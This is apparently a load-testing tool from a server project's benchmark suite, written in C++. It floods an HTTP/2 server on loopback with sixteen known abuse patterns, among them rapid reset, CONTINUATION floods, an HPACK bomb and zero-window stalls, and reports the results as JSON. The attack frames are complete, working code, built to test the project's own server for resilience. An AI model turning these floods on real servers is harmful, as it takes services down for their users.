// Abuses an HTTP/2 server (cleartext, prior knowledge, loopback only) at the full speed of one core
// for some seconds, in one of the ways that took servers down: run by bench/load/h2_floods.py
// beside clients that behave. Whoever throws it out sees it again at once on a new connection. One
// thread on poll(); links nothing of Weir.
//
// usage: weir_flood PORT KIND SECONDS [CONNECTIONS]
//
// Prints one JSON object: connections made, frames and bytes that the server took, how many
// connections the server ended, and how long the flooder waited for the server to take more.
#include <arpa/inet.h>
#include <array>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <ctime>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <string.h>
#include <string>
#include <string_view>
#include <sys/socket.h>
#include <unistd.h>
#include <vector>

namespace {

using namespace std::string_literals;
using namespace std::string_view_literals;

constexpr std::size_t kBatch = 64 * 1024;  // bytes made at once
constexpr std::uint32_t kLastStream = 0x7ffffffd;
constexpr std::size_t kBombFields = 16'000;  // references to one large entry, one byte each

// Frame types.
constexpr int kData = 0, kHeaders = 1, kPriority = 2, kReset = 3, kSettings = 4, kPing = 6,
              kWindowUpdate = 8, kContinuation = 9;
constexpr int kEndStream = 1, kEndHeaders = 4;

void append_number(std::string& out, std::uint32_t value, int bytes) {
  for (int shift = (bytes - 1) * 8; shift >= 0; shift -= 8) {
    out.push_back(static_cast<char>(value >> shift & 0xff));
  }
}

std::string frame(int type, int flags, std::uint32_t stream, std::string_view payload) {
  std::string out;
  append_number(out, static_cast<std::uint32_t>(payload.size()), 3);
  out.push_back(static_cast<char>(type));
  out.push_back(static_cast<char>(flags));
  append_number(out, stream, 4);
  return out.append(payload);
}

std::string number(std::uint32_t value) {
  std::string out;
  append_number(out, value, 4);
  return out;
}

// GET or POST of / on http://a, from the static table.
const std::string kGet = "\x82\x86\x84\x41\x01"s + "a";
const std::string kPost = "\x83\x86\x84\x41\x01"s + "a";
const std::string kField = "\x00\x01"s + "x\x01" + "y";  // a literal that is not indexed

// One way to abuse: what is sent first, and what over and over. `stream` is the next unused stream
// and moves on with those that are used.
struct Kind {
  std::string_view name;
  bool reads;  // or leaves what the server answers lying
  std::string (*begin)(std::uint32_t& stream);
  std::string (*repeat)(std::uint32_t& stream);
};

std::string nothing(std::uint32_t& /*stream*/) {
  return {};
}

std::string own_settings(std::string_view payload) {
  return frame(kSettings, 0, 0, payload);
}

std::string open_post(std::uint32_t& stream) {
  const std::string out = frame(kHeaders, kEndHeaders, stream, kPost);
  stream += 2;
  return out;
}

// A stream that ends at once, for what comes too late.
std::string open_and_reset(std::uint32_t& stream) {
  const std::string out = open_post(stream);
  return out + frame(kReset, 0, stream - 2, number(8));
}

std::string open_block(std::uint32_t& stream) {
  const std::string out = frame(kHeaders, kEndStream, stream, kGet);
  stream += 2;
  return out;
}

std::string get_and_reset(std::uint32_t& stream) {
  const std::string out =
      frame(kHeaders, kEndStream | kEndHeaders, stream, kGet) + frame(kReset, 0, stream, number(8));
  stream += 2;
  return out;
}

// A request, and then a frame for which the server has to reset it itself.
std::string get_and_provoke(std::uint32_t& stream) {
  const std::string out = frame(kHeaders, kEndStream | kEndHeaders, stream, kGet) +
                          frame(kWindowUpdate, 0, stream, number(0));
  stream += 2;
  return out;
}

std::string one_continuation(std::uint32_t& stream) {
  std::string block;
  for (int i = 0; i < 32; ++i) block += kField;
  return frame(kContinuation, 0, stream - 2, block);
}

std::string empty_continuation(std::uint32_t& stream) {
  return frame(kContinuation, 0, stream - 2, {});
}

std::string one_settings(std::uint32_t& /*stream*/) {
  return own_settings("\x00\x03\x00\x00\x00\x64"sv);
}

std::string one_ping(std::uint32_t& /*stream*/) {
  return frame(kPing, 0, 0, "flooding"sv);
}

std::string one_priority(std::uint32_t& /*stream*/) {
  return frame(kPriority, 0, 1, "\x00\x00\x00\x03\x0f"sv);
}

std::string empty_data(std::uint32_t& stream) {
  return frame(kData, 0, stream - 2, {});
}

std::string one_window(std::uint32_t& stream) {
  return frame(kWindowUpdate, 0, stream - 2, number(1));
}

std::string unknown(std::uint32_t& /*stream*/) {
  return frame(0xee, 0, 0, {});
}

// An entry of 4,000 bytes in the table of the server, then as many references to it as a frame
// takes: a request of 16 KB that decodes to 48 MB.
std::string bomb(std::uint32_t& stream) {
  const std::string block = kGet + "\x40\x01x\x7f"s + "\xa1\x1e" + std::string(4000, 'v') +
                            std::string(kBombFields - 4000, '\xbe');
  const std::string out = frame(kHeaders, kEndStream | kEndHeaders, stream, block);
  stream += 2;
  return out;
}

// Fields of one byte each, which a request may have only once: as many as a frame takes, decoded
// although the request is refused for the second.
std::string many_fields(std::uint32_t& stream) {
  const std::string block = kGet + std::string(kBombFields, '\x82');
  const std::string out = frame(kHeaders, kEndStream | kEndHeaders, stream, block);
  stream += 2;
  return out;
}

// A stream that ends at once, and HEADERS that come too late for it.
std::string late_headers(std::uint32_t& stream) {
  return frame(kHeaders, kEndStream | kEndHeaders, stream - 2, kField);
}

// No window for any stream: what is asked for can be made and not sent.
std::string no_window(std::uint32_t& /*stream*/) {
  return own_settings("\x00\x04\x00\x00\x00\x00"sv);
}

std::string one_get(std::uint32_t& stream) {
  const std::string out = frame(kHeaders, kEndStream | kEndHeaders, stream, kGet);
  stream += 2;
  return out;
}

constexpr std::array kKinds = {
    Kind{"rapid_reset", true, nothing, get_and_reset},
    Kind{"made_reset", true, nothing, get_and_provoke},
    Kind{"continuation", true, open_block, one_continuation},
    Kind{"empty_continuation", true, open_block, empty_continuation},
    Kind{"settings", false, nothing, one_settings},
    Kind{"ping", false, nothing, one_ping},
    Kind{"priority", true, nothing, one_priority},
    Kind{"empty_data", true, open_post, empty_data},
    Kind{"late_data", true, open_and_reset, empty_data},
    Kind{"late_headers", true, open_and_reset, late_headers},
    Kind{"window_update", true, open_post, one_window},
    Kind{"unknown", true, nothing, unknown},
    Kind{"hpack_bomb", true, nothing, bomb},
    Kind{"many_fields", true, nothing, many_fields},
    Kind{"stall", true, no_window, one_get},
    Kind{"unread", false, nothing, one_get},
};

std::int64_t now_ns() {
  timespec time{};
  ::clock_gettime(CLOCK_MONOTONIC, &time);
  return static_cast<std::int64_t>(time.tv_sec) * 1'000'000'000 + time.tv_nsec;
}

struct Counts {
  std::uint64_t connections = 0, refused = 0, ended = 0, bytes = 0, repetitions = 0;
  std::int64_t waited_ns = 0;
};

class Connection {
 public:
  Connection(const Kind& kind, std::uint16_t port) : kind_(kind), port_(port) {}

  int fd() const { return fd_; }

  // Sends until the server takes no more or `turns` batches are through, and reads what is there.
  void turn(Counts& counts, int turns);

 private:
  bool open(Counts& counts);
  void close(Counts& counts);
  void make_batch(Counts& counts);
  bool drain();

  const Kind& kind_;
  std::uint16_t port_;
  int fd_ = -1;
  std::uint32_t stream_ = 1;
  std::string batch_;
  std::size_t sent_ = 0;
};

bool Connection::open(Counts& counts) {
  fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(port_);
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (::connect(fd_, reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0) {
    ++counts.refused;
    ::close(fd_);
    fd_ = -1;
    return false;
  }
  const int on = 1;
  ::setsockopt(fd_, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on);
  ++counts.connections;
  stream_ = 1;
  batch_ = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + own_settings({}) + kind_.begin(stream_);
  sent_ = 0;
  return true;
}

void Connection::close(Counts& counts) {
  ::close(fd_);
  fd_ = -1;
  ++counts.ended;
}

void Connection::make_batch(Counts& counts) {
  batch_.clear();
  sent_ = 0;
  while (batch_.size() < kBatch && stream_ < kLastStream) {
    batch_ += kind_.repeat(stream_);
    ++counts.repetitions;
  }
}

// Throws away what the server answers. False when the connection has ended.
bool Connection::drain() {
  std::array<char, 65536> scratch{};
  while (true) {
    const ssize_t got = ::recv(fd_, scratch.data(), scratch.size(), MSG_DONTWAIT | MSG_TRUNC);
    if (got > 0) continue;
    return got < 0 && errno == EAGAIN;
  }
}

void Connection::turn(Counts& counts, int turns) {
  if (fd_ < 0 && !open(counts)) return;
  for (int i = 0; i < turns; ++i) {
    if (sent_ == batch_.size()) make_batch(counts);
    if (batch_.empty()) return close(counts);
    const ssize_t sent =
        ::send(fd_, batch_.data() + sent_, batch_.size() - sent_, MSG_DONTWAIT | MSG_NOSIGNAL);
    if (sent < 0 && errno != EAGAIN) return close(counts);
    if (sent < 0) break;
    counts.bytes += static_cast<std::uint64_t>(sent);
    sent_ += static_cast<std::size_t>(sent);
  }
  if (kind_.reads && !drain()) close(counts);
}

void flood(const Kind& kind, std::uint16_t port, std::int64_t seconds, std::size_t connections,
           Counts& counts) {
  std::vector<Connection> open(connections, Connection(kind, port));
  std::vector<pollfd> waiting(connections);
  const std::int64_t until = now_ns() + seconds * 1'000'000'000;
  while (now_ns() < until) {
    bool thrown_out = false;
    for (std::size_t i = 0; i < connections; ++i) {
      open[i].turn(counts, 4);
      thrown_out |= open[i].fd() < 0;
      const short events = static_cast<short>(POLLOUT | (kind.reads ? POLLIN : 0));
      waiting[i] = {.fd = open[i].fd(), .events = events, .revents = 0};
    }
    const std::int64_t before = now_ns();
    ::poll(waiting.data(), waiting.size(), thrown_out ? 0 : 100);
    counts.waited_ns += now_ns() - before;
  }
}

const Kind* kind_called(std::string_view name) {
  for (const Kind& kind : kKinds) {
    if (kind.name == name) return &kind;
  }
  return nullptr;
}

}  // namespace

int main(int argc, char** argv) {
  const auto number_at = [&](int index) { return argc > index ? std::atoll(argv[index]) : 0; };
  const Kind* kind = argc > 2 ? kind_called(argv[2]) : nullptr;
  const std::int64_t connections = argc > 4 ? number_at(4) : 1;
  if (argc < 4 || kind == nullptr || number_at(1) < 1 || number_at(1) > 65535 || number_at(3) < 1 ||
      connections < 1 || connections > 10'000) {
    std::fputs("usage: weir_flood PORT KIND SECONDS [CONNECTIONS]\nkinds:", stderr);
    for (const Kind& each : kKinds) std::fprintf(stderr, " %s", std::string(each.name).c_str());
    std::fputs("\n", stderr);
    return 2;
  }
  Counts counts;
  flood(*kind, static_cast<std::uint16_t>(number_at(1)), number_at(3),
        static_cast<std::size_t>(connections), counts);
  const auto count = [](std::uint64_t value) { return static_cast<unsigned long long>(value); };
  std::printf(
      "{\"kind\": \"%s\", \"seconds\": %lld, \"connections\": %llu, \"refused\": %llu, "
      "\"ended\": %llu, \"megabytes\": %.1f, \"repetitions\": %llu, \"waited_seconds\": %.2f}\n",
      argv[2], number_at(3), count(counts.connections), count(counts.refused), count(counts.ended),
      static_cast<double>(counts.bytes) / 1e6, count(counts.repetitions),
      static_cast<double>(counts.waited_ns) / 1e9);
}
